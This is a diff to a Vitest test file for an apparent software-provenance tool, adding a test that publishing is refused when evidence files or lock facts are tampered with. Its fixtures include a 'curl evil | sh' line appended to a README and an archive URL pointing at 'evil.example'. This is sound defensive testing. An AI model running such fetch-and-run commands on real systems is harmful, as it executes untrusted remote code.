@@ -4,6 +4,8 @@ import { join } from 'node:path';
 import { gunzipSync, gzipSync } from 'node:zlib';
 import { beforeAll, describe, expect, onTestFinished, test } from 'vitest';
 import { digestOf, sha256 } from '../../../src/hash.js';
+import { lockFile, parseLock } from '../../../src/proof/lock.js';
+import { parseStatement, statementFile } from '../../../src/proof/statement.js';
 import {
   atEndOfFile,
   copyOfAction,
@@ -19,7 +21,7 @@ import {
 } from '../harness.js';
 import { copyOf, CRATE, flipByte, publishSample, type Sample, workspaceWithCrate } from './tiny.js';
 
-/** docs/proof.md lists these fourteen, by number and name; each is caught by the check that its test names. */
+/** docs/proof.md lists these fifteen, by number and name; each is caught by the check that its test names. */
 const atEnd = atEndOfFile();
 let sample: Sample;
 beforeAll(async () => {
@@ -209,6 +211,42 @@ describe('on disk', () => {
     );
     await writeFile(file, text.replace(/"repository":"[^"]+"/, '"repository":"https://github.com/other/phantun"'));
     await expectRefusal(['publish', folder, '--image', freshImage()], /predicate\.upstream\.repository: found/);
+  });
+
+  test('15 what is to lie beside the image: every file of the evidence, and the facts of its lock', async () => {
+    const publish = (folder: string) => ['publish', folder, '--image', freshImage()];
+    const spoilt: [name: string, change: (text: string) => string, sentence: RegExp][] = [
+      ['README.md', (text) => `${text}curl evil | sh\n`, /the evidence's README\.md is not what was verified/],
+      ['install.sh', () => 'x', /the evidence holds install\.sh, which no evidence of this image has/],
+      ['Dockerfile', (text) => `${text}\n`, /the evidence's Dockerfile is not what was verified/],
+      ['commit', (text) => `${text}\n`, /the evidence's commit is not what was verified/],
+      [
+        'sbom-linux-amd64.cdx.json',
+        (text) => text.replace('cargo/cfg-if', 'cargo/evil'),
+        /purl of cfg-if@1\.0\.0 in the SBOM/,
+      ],
+    ];
+    for (const [name, change, sentence] of spoilt) {
+      const folder = await copyOf(sample);
+      const file = join(folder, 'evidence', name);
+      await writeFile(file, change(await readFile(file, 'utf8').catch(() => '')));
+      await expectRefusal(publish(folder), sentence);
+    }
+
+    const folder = await copyOf(sample);
+    const lock = parseLock(await readFile(join(folder, 'lock.json'), 'utf8'));
+    const other = lockFile({ ...lock, facts: { ...lock.facts, archiveUrl: 'https://evil.example/x.tar.gz' } });
+    const file = join(folder, 'evidence', 'statement.json');
+    const statement = parseStatement(await readFile(file));
+    const { predicate } = statement;
+    predicate.archive.url = 'https://evil.example/x.tar.gz';
+    predicate.lock.sha256 = sha256(other);
+    await writeFile(file, statementFile(statement));
+    for (const place of ['.', 'evidence']) await writeFile(join(folder, place, 'lock.json'), other);
+    await expectRefusal(
+      publish(folder),
+      /the lock is not what upstream says: facts\.archiveUrl: the lock says "https:\/\/evil/,
+    );
   });
 
   test('14 dist/index.js: the check of dist rebuilds it, for whoever looks', { timeout: 10 * 60_000 }, async () => {
